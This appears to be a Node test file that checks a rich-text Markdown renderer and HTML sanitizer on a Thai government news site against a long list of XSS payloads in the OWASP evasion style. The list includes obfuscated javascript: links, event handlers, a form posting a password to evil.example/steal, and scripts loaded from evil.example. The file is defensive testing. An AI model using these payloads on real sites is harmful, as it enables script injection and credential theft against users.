import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { renderRichText, sanitizeRichHtml } from './richtext.js';

/**
 * XSS payloads in the style of the OWASP XSS filter evasion cheat sheet, as staff might type or
 * paste them into a news item: each goes through the Markdown renderer and through the HTML
 * sanitizer alone, and nothing that runs, loads or restyles anything may come out.
 */
const PAYLOADS = [
  // scripts
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<script/xss src="https://evil.example/x.js"></script>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<script>alert(1)',
  '</p><script>alert(1)</script><p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  // event handlers
  '<img src=x onerror=alert(1)>',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<p onmouseover=alert(1)>hover</p>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  // javascript:, vbscript:, data: links, encoded and mixed case
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="VBScript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
  // styles and expression()
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="width: expression(alert(1))">x</div>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<p STYLE="behavior: url(xss.htc)">x</p>',
  // frames, objects, embeds, forms, meta, base
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<form action="https://evil.example/steal"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // unclosed tags and attribute-breaking quotes
  '<img src="x" onerror="alert(1)"',
  '<a href="https://ok.example" title="x" onmouseover="alert(1)">',
  '<a href="https://ok.example/"" onmouseover="alert(1)">x</a>',
  "<a href='https://ok.example/' onmouseover='alert(1)'>x</a>",
  '<a title="a\\" onmouseover=alert(1) x="">x</a>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  // Markdown link and image tricks
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](vbscript:msgbox(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.png)',
  '![x" onerror="alert(1)](https://evil.example/x.png)',
  '[a]: javascript:alert(1)\n\n[a]',
  '<javascript:alert(1)>',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '**<img src=x onerror=alert(1)>**',
  '> <iframe src=https://evil.example></iframe>',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
];

const ALLOWED_TAGS = new Set([
  'p',
  'br',
  'strong',
  'b',
  'em',
  'i',
  'u',
  's',
  'ul',
  'ol',
  'li',
  'a',
  'h2',
  'h3',
  'h4',
  'blockquote',
  'hr',
  'code',
  'table',
  'thead',
  'tbody',
  'tr',
  'th',
  'td',
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'title', 'rel', 'scope', 'start']);

function decodeEntities(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);?/gi, (_, h) => String.fromCodePoint(Number.parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n')
    .replace(/&quot;/g, '"')
    .replace(/&amp;/g, '&');
}

/** Every tag in the allow-list, every attribute allowed, every link to a harmless place. */
function assertHarmless(html: string, payload: string) {
  for (const m of html.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)) {
    const tag = (m[1] ?? '').toLowerCase();
    assert.ok(ALLOWED_TAGS.has(tag), `tag <${tag}> from ${payload}\n→ ${html}`);
    for (const a of (m[2] ?? '').matchAll(/([^\s"'=<>/]+)\s*(?:=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g)) {
      const name = (a[1] ?? '').toLowerCase();
      assert.ok(ALLOWED_ATTRIBUTES.has(name), `attribute ${name} from ${payload}\n→ ${html}`);
      if (name === 'href') {
        const value = decodeEntities((a[2] ?? '').replace(/^["']|["']$/g, ''))
          // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers drop these inside a URL's scheme
          .replace(/[\s\u0000-\u001f]/g, '')
          .toLowerCase();
        assert.doesNotMatch(value, /^(javascript|vbscript|data|file):/, `href ${value} from ${payload}`);
        assert.doesNotMatch(value, /^\/\//, `protocol-relative href from ${payload}`);
        // The scheme as a browser reads it (URL standard: a letter, then letters, digits, + - .);
        // anything else before a colon ("%6A%61…:") makes the link a relative path, harmless.
        const scheme = /^([a-z][a-z0-9+.-]*):/.exec(value)?.[1];
        if (scheme) assert.ok(['http', 'https', 'mailto', 'tel'].includes(scheme), `scheme ${scheme} from ${payload}`);
      }
    }
  }
  // Nothing left that a browser would treat as markup or script outside the allowed tags.
  const text = html.replace(/<\/?[a-zA-Z][^>]*>/g, '');
  assert.doesNotMatch(text, /<[a-zA-Z!/?]/, `raw markup left in ${html} (from ${payload})`);
  // Inside tags (text may say "onerror=" harmlessly, escaped).
  // Quoted values are data (a quote inside one is &quot;): only the attribute names count.
  const tags = [...html.matchAll(/<[a-zA-Z][^>]*>/g)].map((m) => m[0].replace(/"[^"]*"|'[^']*'/g, '""')).join(' ');
  assert.doesNotMatch(tags, /\son\w+\s*=/i, `event handler from ${payload}`);
  assert.doesNotMatch(tags, /style\s*=/i, `style attribute from ${payload}`);
}

describe('rich text: the XSS payload list', () => {
  test('Markdown rendering never lets a payload through', () => {
    for (const p of PAYLOADS) assertHarmless(renderRichText(p), p);
    // Wrapped in ordinary text and Markdown around it, too.
    for (const p of PAYLOADS) assertHarmless(renderRichText(`ข่าว **สำคัญ**\n\n${p}\n\n- รายการ ${p}`), p);
  });

  test('HTML pasted as is: the sanitizer alone never lets a payload through', () => {
    for (const p of PAYLOADS) assertHarmless(sanitizeRichHtml(p), p);
  });

  test('what the subset is for still works: headings from h2, lists, links with rel, tables, quotes', () => {
    const html = renderRichText(
      '# หัวข้อ\n\n**ตัวหนา** *ตัวเอียง*\n\n- หนึ่ง\n- สอง\n\n3. สาม\n\n[เว็บ](https://www.nacc.go.th) [อีเมล](mailto:saraban@lubopusa.go.th)\n\n> อ้างอิง\n\n| ก | ข |\n|---|---|\n| 1 | 2 |',
    );
    assert.match(html, /<h2>หัวข้อ<\/h2>/);
    assert.match(html, /<strong>ตัวหนา<\/strong> <em>ตัวเอียง<\/em>/);
    assert.match(html, /<ul>\s*<li>หนึ่ง<\/li>/);
    assert.match(html, /<ol start="3">/);
    assert.match(html, /<a href="https:\/\/www\.nacc\.go\.th" rel="noopener noreferrer nofollow">เว็บ<\/a>/);
    assert.match(html, /<a href="mailto:saraban@lubopusa\.go\.th">อีเมล<\/a>/);
    assert.match(html, /<blockquote>/);
    assert.match(html, /<th>ก<\/th>/);
    assertHarmless(html, 'the subset');
  });

  test('text that looks like markup is shown as text, not dropped', () => {
    const html = renderRichText('ค่าธรรมเนียม < 100 บาท และ a > b');
    assert.match(html, /&lt; 100 บาท/);
    assert.match(html, /a &gt; b/);
  });
});
